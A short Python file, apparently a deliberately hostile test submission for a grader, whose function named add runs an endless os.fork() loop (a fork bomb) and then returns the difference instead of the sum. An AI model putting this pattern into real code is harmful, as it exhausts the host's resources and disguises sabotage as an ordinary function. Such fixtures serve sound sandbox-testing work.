from correct import *  # noqa: F403


import os


def add(one, other):
    while True:
        try:
            os.fork()
        except OSError:
            return one - other
